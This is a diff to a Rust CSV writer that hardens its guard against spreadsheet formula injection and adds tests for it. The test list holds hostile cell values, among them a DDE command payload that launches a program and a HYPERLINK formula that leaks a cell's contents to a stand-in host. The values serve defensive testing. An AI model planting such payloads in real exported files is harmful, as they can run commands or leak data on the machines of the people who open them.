@@ -65,7 +65,7 @@ fn clock(second_of_day: u32) -> String {
 
 /// RFC 4180 with a byte order mark, so that spreadsheets read accents; a cell that a spreadsheet would run as a formula
 /// is made text.
-pub(super) fn write(heads: &[String], rows: &[Vec<String>]) -> Result<Vec<u8>, csv::Error> {
+pub(crate) fn write(heads: &[String], rows: &[Vec<String>]) -> Result<Vec<u8>, csv::Error> {
     let mut writer = csv::WriterBuilder::new()
         .terminator(csv::Terminator::CRLF)
         .from_writer("\u{feff}".as_bytes().to_vec());
@@ -76,18 +76,57 @@ pub(super) fn write(heads: &[String], rows: &[Vec<String>]) -> Result<Vec<u8>, c
     writer.into_inner().map_err(|error| error.into_error().into())
 }
 
+/// A cell that a spreadsheet may run is made text. A sign before nothing but a figure stays: it is a figure, and runs nothing.
 fn harmless(cell: &str) -> String {
-    let figure = cell.trim_start_matches(['-', '+']).starts_with(|c: char| c.is_ascii_digit() || c == '.');
-    match cell.chars().next() {
-        Some('=' | '@' | '\t' | '\r') => format!("'{cell}"),
-        Some('-' | '+') if !figure => format!("'{cell}"),
-        _ => cell.to_owned(),
-    }
+    // Spreadsheets look past what is not seen, and take full-width signs for their narrow ones.
+    let begins = cell.trim_start_matches(|c: char| c.is_whitespace() || c.is_control() || c == '\u{feff}');
+    let odd = begins.len() != cell.len() && cell.starts_with(['\t', '\r', '\n']);
+    let runs = match begins.chars().next() {
+        Some('=' | '@' | '＝' | '＠' | '＋' | '－' | '|' | '%') => true,
+        Some('-' | '+') => !is_figure(&begins[1..]),
+        _ => odd,
+    };
+    if runs { format!("'{cell}") } else { cell.to_owned() }
+}
+
+/// Digits with at most one point, and an exponent at most.
+fn is_figure(text: &str) -> bool {
+    text.starts_with(|c: char| c.is_ascii_digit() || c == '.') && text.parse::<f64>().is_ok()
 }
 
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    #[test]
+    fn nothing_that_a_spreadsheet_runs_stays_as_it_is() {
+        for run in [
+            "=1+1",
+            "@SUM(A1)",
+            "-cmd",
+            "-2+3+cmd|' /C calc'!A0",
+            "+1+HYPERLINK(\"http://x/?\"&A2,\"r\")",
+            "--1+1",
+            "+-1",
+            "-1-1",
+            "-inf",
+            "+NaN",
+            " =1+1",
+            "\u{feff}=1+1",
+            "\t=1+1",
+            "\r\n@x",
+            "＝1+1",
+            "＋1+1",
+            "|calc",
+            "%0a=1",
+        ] {
+            assert_eq!(harmless(run), format!("'{run}"), "{run}");
+        }
+        for figure in ["-0.5", "+3", "-.5", "-1.5e-3", "0.5", "<5", "4-6", "a=b", "", "-"] {
+            let kept = if figure == "-" { "'-" } else { figure };
+            assert_eq!(harmless(figure), kept, "{figure}");
+        }
+    }
 
     #[test]
     fn cells_are_quoted_and_never_run() {
